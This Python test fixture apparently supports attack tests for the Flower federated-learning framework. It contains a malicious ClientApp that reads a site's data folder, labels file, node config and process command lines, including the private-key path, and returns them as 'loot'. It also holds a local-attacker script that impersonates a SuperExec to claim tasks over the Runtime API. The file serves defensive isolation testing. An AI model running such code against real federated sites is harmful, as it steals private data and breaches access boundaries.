"""Apps and a local attacker for tests/test_deployment_attacks.py (a curious coordinator, another local user).

Written into the test's folder (the apps) or run with ``python -c`` (the attacker, which then needs no file it could
not read as another user)."""

from __future__ import annotations

from pathlib import Path

PYPROJECT = """[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "{name}"
version = "1.0.0"
dependencies = []

[tool.flwr.app]
publisher = "coordinator"

[tool.flwr.app.components]
serverapp = "{name}_server:app"
clientapp = "{name}_client:app"

[tool.flwr.app.config]
out = ""
sleep = 0.0
timeout = 120.0
"""

# The coordinator's ServerApp: one "query" message to every connected SuperNode; writes what came back to `out`.
SERVER_APP = '''
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()


@app.main()
def main(grid: Grid, context: Context) -> None:
    out = Path(str(context.run_config["out"]))
    nodes, deadline = [], time.monotonic() + 120
    while not nodes and time.monotonic() < deadline:
        nodes = list(grid.get_node_ids())
        time.sleep(0.5)
    msgs = [Message(RecordDict({"q": ConfigRecord({"sleep": float(context.run_config["sleep"])})}),
                    dst_node_id=n, message_type="query") for n in nodes]
    replies = grid.send_and_receive(msgs, timeout=float(context.run_config["timeout"]))
    got = [{"error": r.error.reason, "code": r.error.code} if r.has_error() else
           {"content": {k: str(v) for k, v in r.content["loot"].items()}} for r in replies]
    out.write_text(json.dumps({"nodes": nodes, "replies": got}))
'''

# A curious coordinator's ClientApp: what the site's user can read (its data folder, labels, node config, the
# SuperNode's command line with the path of its private key).
EVIL_CLIENT_APP = '''
import os

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def query(msg: Message, context: Context) -> Message:
    data = str(context.node_config.get("data-dir", ""))
    got = {"node-config": repr(dict(context.node_config))}
    try:
        got["listing"] = ",".join(sorted(os.listdir(data)))
        with open(os.path.join(data, "labels.csv")) as fh:
            got["labels"] = fh.read(300)
    except OSError as exc:
        got["data-error"] = str(exc)
    for pid in (os.getppid(), os.getpid()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                got[f"cmdline-{pid}"] = fh.read().replace(bytes(1), b" ").decode(errors="replace")
        except OSError:
            pass
    return Message(RecordDict({"loot": ConfigRecord(got)}), reply_to=msg)
'''

# An app the site reviewed and approved: answers after `sleep` seconds (time for the local attacker to try).
BENIGN_CLIENT_APP = '''
import time

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def query(msg: Message, context: Context) -> Message:
    time.sleep(float(msg.content["q"]["sleep"]))
    return Message(RecordDict({"loot": ConfigRecord({"hello": "from the approved app"})}), reply_to=msg)
'''


def write_app(root: Path, name: str, client_code: str) -> Path:
    """An app source tree ``root/name`` (what the coordinator gives `flwr run`)."""
    app = root / name
    app.mkdir(parents=True)
    (app / "pyproject.toml").write_text(PYPROJECT.format(name=name))
    (app / f"{name}_server.py").write_text(SERVER_APP)
    (app / f"{name}_client.py").write_text(client_code)
    return app


# Another local user on the site's machine: polls the SuperNode's Runtime API (loopback) as a SuperExec would, and
# with any task it claims reads the task's input (message, context with the node config). Prints one JSON line.
LOCAL_ATTACKER = '''
import json, os, select, sys, time
from flwr.proto.runtime_pb2 import AcquireTaskRequest, PullTaskInputRequest
from flwr.supercore.constant import TaskType
from flwr.supercore.interceptors import RuntimeTokenHttpInterceptor, RuntimeVersionHttpInterceptor
from flwr.supercore.runtime import RuntimeHttpClient

address, seconds = sys.argv[1], float(sys.argv[2])  # and it stops when a line arrives on stdin


def client(*extra):
    return RuntimeHttpClient.from_server_address(server_address=address, insecure=True, root_certificates=None,
                                                 interceptors=[RuntimeVersionHttpInterceptor(component_name="SuperExec"),
                                                               *extra])


seen = {"uid": os.getuid(), "calls": 0, "answered": 0, "refused": 0, "reasons": [], "claimed": []}
acquire = client()
deadline = time.monotonic() + seconds
while time.monotonic() < deadline and not select.select([sys.stdin], [], [], 0)[0]:
    seen["calls"] += 1
    try:
        res = acquire.AcquireTask(AcquireTaskRequest(supported_task_types=[TaskType.CLIENT_APP]))
    except Exception as exc:
        seen["refused"] += 1
        body = getattr(getattr(exc, "response", None), "text", "")  # the API's own words
        reason = f"{type(exc).__name__}: {str(exc).splitlines()[0]} {body}"[:400]
        if reason not in seen["reasons"]:
            seen["reasons"].append(reason)
    else:
        seen["answered"] += 1
        if res.HasField("task") and res.token:
            try:
                taken = client(RuntimeTokenHttpInterceptor(res.token)).PullTaskInput(PullTaskInputRequest())
                seen["claimed"].append({"task": res.task.task_id, "node_config": str(taken.context)[:2000]})
            except Exception as exc:
                seen["claimed"].append({"task": res.task.task_id, "error": str(exc)[:300]})
    time.sleep(0.02)
print(json.dumps(seen))
'''
